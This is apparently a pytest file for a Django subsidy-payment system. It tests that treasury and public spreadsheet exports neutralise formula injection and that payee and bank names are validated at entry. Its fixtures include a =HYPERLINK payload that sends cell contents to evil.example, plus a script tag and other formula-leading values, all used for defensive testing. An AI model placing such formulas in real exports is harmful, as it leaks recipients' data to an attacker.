"""No cell of a file the system writes for others becomes a formula (R36 treasury file, R14 amount table), and
names are refused at entry unless they hold the characters of a name and the payee is the buyer (R36
直补到卡(户))."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications import services
from applications.models import Application
from catalog.models import FundSource, Grade
from core.spreadsheets import csv_cell, xlsx_bytes
from payments import services as payments
from tests.catalog.conftest import grade, priced

pytestmark = pytest.mark.django_db

EVIL_PAYEE = '=HYPERLINK("https://evil.example/?"&D3&D4,"张建国")'


def no_formula_in(content: bytes) -> list:
    """The sheet's cells, after proving none of them is stored as a formula in the file itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+2", "'=1+2"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("15300.00", "15300.00"),
        ("张三", "张三"),
        (None, ""),
    ],
)
def test_a_csv_cell_that_starts_a_formula_is_neutralised_R36(value, written):
    assert csv_cell(value) == written


def test_an_xlsx_string_is_text_whatever_it_starts_with_R36():
    rows = no_formula_in(xlsx_bytes([["=1+2", EVIL_PAYEE, "@x", 3]]))
    assert rows == [["=1+2", EVIL_PAYEE, "@x", 3]]


def test_the_treasury_file_carries_the_payee_and_bank_as_text_never_formulas_R36(
    cast, haidian, fund, requested, second_finance
):
    """Names stored before they were checked at entry (or by another way in) still export as text."""
    fund(haidian)
    app = requested()
    Application.objects.filter(pk=app.pk).update(payee_name=EVIL_PAYEE, bank_name="=1+2")
    batch = payments.build_batch(officer=cast["finance"], application_ids=[app.pk])
    payments.approve_batch(batch_id=batch.pk, officer=second_finance)
    _, content, _ = payments.export_batch(batch_id=batch.pk, officer=cast["finance"], file_format="xlsx")
    rows = no_formula_in(content)
    assert rows[1][2] == EVIL_PAYEE and rows[1][4] == "=1+2"
    assert rows[1][5] == "15300.00"  # amounts as the treasury reads them
    _, content, _ = payments.export_batch(batch_id=batch.pk, officer=cast["finance"], file_format="csv")
    cells = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
    assert cells[2] == "'" + EVIL_PAYEE and cells[4] == "'=1+2" and cells[8] == "18300.00"


def test_the_public_amount_table_writes_grade_names_as_text_R14(client):
    g = grade("1.1.2", "旋耕机 幅宽档0", "0m≤工作幅宽<1m")
    priced(g, FundSource.CENTRAL, "900", price="3000")
    Grade.objects.filter(pk=g.pk).update(name='=HYPERLINK("https://evil.example","x")')
    response = client.get(reverse("catalog:public_amounts_xlsx"))
    rows = no_formula_in(response.content)
    assert rows[1][3] == '=HYPERLINK("https://evil.example","x")'


# --- at entry ------------------------------------------------------------------------------------------------


def _account(client, application, **data):
    data = {"account_number": "6228480010012345678", **data}
    return client.post(reverse("apply:account", args=[application.pk]), data)


@pytest.mark.parametrize(
    "payee, bank, field",
    [
        (EVIL_PAYEE, "北京农商银行", "payee_name"),
        ("张三", "=1+2", "bank_name"),
        ("张三", "<script>x</script>", "bank_name"),
        ("-张三", "北京农商银行", "payee_name"),
    ],
)
def test_a_name_with_characters_no_name_holds_is_refused_at_entry_R36(login, cast, payee, bank, field):
    application = services.start_application(buyer=cast["buyer"], district=cast["buyer"].district)
    response = _account(login(cast["buyer"]), application, payee_name=payee, bank_name=bank)
    assert response.status_code == 200
    assert "只能使用姓名中的字符" in response.content.decode()
    assert field in response.context["form"].errors
    application.refresh_from_db()
    assert application.bank_name == "" and not application.account_encrypted


def test_the_payee_must_be_the_buyer_R36(login, cast):
    application = services.start_application(buyer=cast["buyer"], district=cast["buyer"].district)
    client = login(cast["buyer"])
    response = _account(client, application, payee_name="王五", bank_name="北京农商银行")
    assert response.status_code == 200
    assert "账户必须是您本人名下的：张三" in response.content.decode()
    application.refresh_from_db()
    assert application.bank_name == ""
    response = _account(client, application, payee_name="张 三", bank_name="中国农业银行 北京 海淀支行")
    assert response.status_code == 302
    application.refresh_from_db()
    assert (application.payee_name, application.bank_name) == ("张 三", "中国农业银行 北京 海淀支行")


def test_an_organisations_payee_is_the_organisation_R36(login, cast, new_user, haidian):
    coop = new_user("coop", "buyer", haidian, buyer_kind="cooperative", display_name="北京市海淀区丰收农机专业合作社")
    application = services.start_application(buyer=coop, district=haidian)
    response = _account(login(coop), application, payee_name="张三", bank_name="北京农商银行")
    assert "账户必须是本组织名下的：北京市海淀区丰收农机专业合作社" in response.content.decode()
    response = _account(login(coop), application, payee_name="北京市海淀区丰收农机专业合作社", bank_name="北京农商银行")
    assert response.status_code == 302
